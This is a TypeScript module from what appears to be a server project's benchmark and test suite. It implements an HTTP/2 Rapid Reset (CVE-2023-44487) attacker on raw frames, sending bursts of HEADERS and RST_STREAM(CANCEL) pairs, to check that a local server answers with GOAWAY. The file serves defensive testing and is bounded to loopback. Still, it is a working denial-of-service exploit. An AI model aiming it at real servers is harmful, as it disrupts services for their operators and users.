/**
 * The HTTP/2 rapid reset attacker (CVE-2023-44487) on raw frames, for bench/attack-clients.ts and the tests
 * (docs/security.md#transport-limits). Node's own HTTP/2 client, cancelling thousands of streams, can stop reading
 * its socket while its writes wait (it then never sees the server's GOAWAY, nor the close, and its destroy() never
 * completes): this one writes frames itself and reads everything the server sends. Loopback only, bounded.
 */
import { constants as h2 } from 'node:http2';
import { connect as tlsConnect } from 'node:tls';

export interface RawRapidResetOutcome {
  /** The error code of the server's GOAWAY, if one came. */
  goawayCode?: number;
  /** Streams opened and cancelled when the GOAWAY came. */
  sentAtGoaway?: number;
  /** Streams opened and cancelled when the outcome was decided (GOAWAY, close or timeout). */
  sentAtEnd: number;
  /** The server closed the connection (by the time of the outcome). */
  closedByServer: boolean;
  ms: number;
}

/** :method GET, :scheme https, :path /ping, :authority localhost (HPACK, static table names, no Huffman). */
const REQUEST_BLOCK = Buffer.concat([
  Buffer.from([0x82, 0x87, 0x04, 5]),
  Buffer.from('/ping'),
  Buffer.from([0x01, 9]),
  Buffer.from('localhost'),
]);
const FRAME = { headers: 0x1, rstStream: 0x3, settings: 0x4, goaway: 0x7 } as const;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/**
 * The rapid reset attacker on raw frames: HEADERS (END_STREAM) then RST_STREAM(CANCEL) for each stream, `burst`
 * streams per write, the next burst after setImmediate, up to `streams`; it reads everything the server sends, so
 * it sees the GOAWAY whatever Node's own HTTP/2 client would do with it. Ends at the GOAWAY (or, `untilClose`, when
 * the server closes the connection), or at `timeoutMs`.
 */
export function rapidResetFrames(
  target: { port: number; ca: string | Buffer },
  options: { streams: number; burst?: number; timeoutMs: number; untilClose?: boolean },
): Promise<RawRapidResetOutcome> {
  const burst = options.burst ?? 100;
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(h2.NGHTTP2_CANCEL);
  return new Promise((resolve) => {
    const started = Date.now();
    let sent = 0;
    let done = false;
    let received = Buffer.alloc(0);
    const socket = tlsConnect({ host: '127.0.0.1', port: target.port, ca: target.ca, servername: 'localhost', ALPNProtocols: ['h2'] });
    const finish = (outcome: Omit<RawRapidResetOutcome, 'sentAtGoaway' | 'sentAtEnd' | 'ms'>) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ ...outcome, sentAtGoaway, sentAtEnd: sent, ms: Date.now() - started });
    };
    let goawayCode: number | undefined;
    let sentAtGoaway: number | undefined;
    const timer = setTimeout(() => finish({ goawayCode, closedByServer: false }), options.timeoutMs);
    socket.on('error', () => undefined);
    socket.once('close', () => finish({ goawayCode, closedByServer: true }));
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        const [type, flags] = [received[3], received[4]];
        const payload = received.subarray(9, 9 + length);
        received = received.subarray(9 + length);
        if (type === FRAME.goaway && goawayCode === undefined) {
          goawayCode = payload.readUInt32BE(4);
          sentAtGoaway = sent;
          if (!options.untilClose) return finish({ goawayCode, closedByServer: false });
        }
        if (type === FRAME.settings && flags === 0 && !socket.destroyed) socket.write(frame(FRAME.settings, 0x1, 0, Buffer.alloc(0)));
      }
    });
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.settings, 0, 0, Buffer.alloc(0))]));
      const next = () => {
        if (done || socket.destroyed) return;
        const frames: Buffer[] = [];
        for (let i = 0; i < burst && sent < options.streams; i++) {
          const streamId = 2 * sent + 1;
          // END_STREAM | END_HEADERS, then the cancel.
          frames.push(frame(FRAME.headers, 0x5, streamId, REQUEST_BLOCK), frame(FRAME.rstStream, 0, streamId, rst));
          sent += 1;
        }
        socket.write(Buffer.concat(frames));
        if (sent < options.streams) setImmediate(next);
      };
      next();
    });
  });
}

const ERROR_CODE_NAMES = [
  'NO_ERROR',
  'PROTOCOL_ERROR',
  'INTERNAL_ERROR',
  'FLOW_CONTROL_ERROR',
  'SETTINGS_TIMEOUT',
  'STREAM_CLOSED',
  'FRAME_SIZE_ERROR',
  'REFUSED_STREAM',
  'CANCEL',
  'COMPRESSION_ERROR',
  'CONNECT_ERROR',
  'ENHANCE_YOUR_CALM',
  'INADEQUATE_SECURITY',
  'HTTP_1_1_REQUIRED',
];

/** An HTTP/2 error code's name (RFC 9113 §7), or its number. */
export function errorCodeName(code: number): string {
  return ERROR_CODE_NAMES[code] ?? String(code);
}
